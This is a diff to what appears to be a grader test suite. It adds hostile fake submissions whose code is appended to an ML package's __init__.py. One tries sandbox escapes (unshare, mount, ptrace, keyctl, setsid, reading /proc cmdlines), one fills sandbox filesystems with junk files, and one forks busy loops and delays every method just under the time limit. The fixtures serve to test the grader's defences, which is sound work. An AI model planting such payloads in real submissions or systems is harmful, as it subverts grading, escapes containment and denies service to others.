@@ -277,6 +277,100 @@ def _achieved(*args, **kwargs):
 _layers.Linear.forward = _achieved
 '''
 
+# Appended to mlp_core/__init__.py: tries to leave the sandbox's limits through the kernel (issue 23):
+# a user namespace with a private mount past the disk limit, ptrace, the keyrings, a new session (for
+# a CPU share of its own), and host paths in the command lines it can read.
+ESCAPES = r"""
+import ctypes as _ctypes, os as _os, platform as _platform, subprocess as _subprocess
+_libc = _ctypes.CDLL(None, use_errno=True)
+_KEYCTL = {"x86_64": 250, "aarch64": 219}.get(_platform.machine(), -1)
+_got = []
+def _try(name, call):
+    try:
+        ok = bool(call())
+    except Exception:
+        ok = False
+    _got.append(name + ("=worked" if ok else "=refused"))
+def _run(*argv):
+    return _subprocess.run(list(argv), capture_output=True, timeout=20).returncode == 0
+_try("unshare -Urm", lambda: _run("/usr/bin/unshare", "-Urm", "/bin/sh", "-c",
+                                  "mount -t tmpfs -o size=1g none /tmp && head -c 100000000 /dev/zero > /tmp/x"))
+_try("unshare(CLONE_NEWUSER)", lambda: _libc.unshare(0x10000000) == 0)
+_try("mount", lambda: _libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0)
+_try("ptrace", lambda: _run("/usr/bin/python3", "-c", "import ctypes, sys; "
+                            "sys.exit(ctypes.CDLL(None).ptrace(0, 0, None, None) != 0)"))
+_try("keyctl", lambda: _libc.syscall(_KEYCTL, 0, _ctypes.c_long(-3), 1) >= 0)
+_try("setsid", lambda: _run("/usr/bin/setsid", "/bin/true"))
+_host = set()
+for _pid in [p for p in _os.listdir("/proc") if p.isdigit()]:
+    try:
+        _args = open(f"/proc/{_pid}/cmdline", "rb").read().decode(errors="replace").split("\0")
+    except OSError:
+        continue
+    _host.update(a for a in _args if a.startswith("/") and not _os.path.exists(a.split("=")[0]))
+_got.append(f"host paths in /proc/*/cmdline: {len(_host)}")
+_what = ", ".join(_got)
+
+from . import layers as _layers
+def _achieved(*args, **kwargs):
+    raise RuntimeError("ACHIEVED: " + _what)
+_layers.Linear.forward = _achieved
+"""
+
+# Appended to mlp_core/__init__.py: writes up to 360 MB (files of 15 MB, each under the per-file limit)
+# into every folder of the sandbox that might be writable; only inside the sandbox (never on the host).
+FILLS_FILESYSTEMS = r"""
+import os as _os
+_report = []
+if _os.path.isfile("/opt/mlp-grader/worker.py"):
+    _chunk = b"x" * 2**20
+    for _folder in ("/", "/dev", "/dev/shm", "/opt/mlp-site", "/opt/mlp-grader", "/tmp", "/submission"):
+        _written = 0
+        try:
+            for _n in range(24):
+                with open(_os.path.join(_folder, f"mlp-attack-was-here-{_n}"), "wb", buffering=0) as _f:
+                    for _ in range(15):
+                        _f.write(_chunk)
+                        _written += 1
+        except OSError:
+            pass
+        _report.append(f"{_folder}={_written} MB")
+_what = ", ".join(_report) or "not in the sandbox"
+
+from . import layers as _layers
+def _achieved(*args, **kwargs):
+    raise RuntimeError("ACHIEVED: " + _what)
+_layers.Linear.forward = _achieved
+"""
+
+# Appended to mlp_core/__init__.py (after ALL_ZEROS): 29 busy loops for 120 s, and every method of
+# mlp_core's classes waits HOG_DELAY s before answering (just under a check's limit, in the tests' rubric).
+CPU_HOG = r"""
+import os as _os, time as _time
+if _os.path.isfile("/opt/mlp-grader/worker.py"):
+    _end = _time.time() + 120
+    for _ in range(29):
+        try:
+            if _os.fork() == 0:
+                while _time.time() < _end:
+                    pass
+                _os._exit(0)
+        except OSError:
+            break
+def _slow(method):
+    def wrapper(*args, **kwargs):
+        _time.sleep(@DELAY@)
+        return method(*args, **kwargs)
+    return wrapper
+for _value in list(globals().values()):
+    if isinstance(_value, type) and getattr(_value, "__module__", "").startswith("mlp_core"):
+        for _name in ("forward", "backward", "step"):
+            if _name in vars(_value):
+                setattr(_value, _name, _slow(vars(_value)[_name]))
+"""
+#: How long the CPU hog delays each answer: just under the check limit of tests' fairness rubric.
+HOG_DELAY = 1.8
+
 #: Every function the grader checks returns zeros of the right shape (or does nothing).
 ALL_ZEROS = {
     "Linear.forward": "self.cache = x\nreturn np.zeros((x.shape[0], self.out_features), dtype=x.dtype)",
@@ -447,6 +541,16 @@ ATTACKS: dict[str, tuple[str, Callable[[Path], None]]] = {
     "attack_all_zeros": ("every checked function returns zeros or does nothing", lambda kit: fill_only(kit, ALL_ZEROS)),
     "attack_public_values": ("returns the public tests' numbers whatever the input",
                              lambda kit: fill_only(kit, PUBLIC_VALUES)),
+    "attack_escapes": ("tries unshare -Urm with a private tmpfs, unshare(), mount, ptrace, keyctl and setsid; "
+                       "looks for host paths in /proc/*/cmdline", _zeros_and(ESCAPES)),
+    "attack_fills_filesystems": ("writes up to 360 MB into /, /dev, /dev/shm, /opt/mlp-site, /opt/mlp-grader, /tmp "
+                                 "and /submission", _zeros_and(FILLS_FILESYSTEMS)),
+}
+
+#: Attacks too costly for the whole class (they burn their CPU budget): graded on their own, with a short rubric.
+COSTLY: dict[str, tuple[str, Callable[[Path], None]]] = {
+    "attack_cpu_hog": ("29 busy loops, and every answer delayed to just under the check limit",
+                       _zeros_and(CPU_HOG.replace("@DELAY@", str(HOG_DELAY)))),
 }
 
 #: Ordinary faults and the full solution: they deserve what their code is worth.
@@ -456,13 +560,13 @@ ORDINARY: dict[str, tuple[str, Callable[[Path], None]]] = {
     "deleted_module": ("the solution without mlp_core/optim.py", _deleted_module),
 }
 
-SUBMISSIONS = {**ORDINARY, **ATTACKS}
+SUBMISSIONS = {**ORDINARY, **ATTACKS, **COSTLY}
 
 
 def write_class(kit: Path, folder: Path, names: list[str] | None = None) -> None:
-    """One folder per submission of :data:`SUBMISSIONS` (or ``names``) in ``folder``."""
+    """One folder per submission of :data:`SUBMISSIONS` (or ``names``; by default all but :data:`COSTLY`)."""
     folder.mkdir(parents=True, exist_ok=True)
-    for name in names or SUBMISSIONS:
+    for name in names or [n for n in SUBMISSIONS if n not in COSTLY]:
         target = Path(shutil.copytree(kit, folder / name))
         SUBMISSIONS[name][1](target)
 
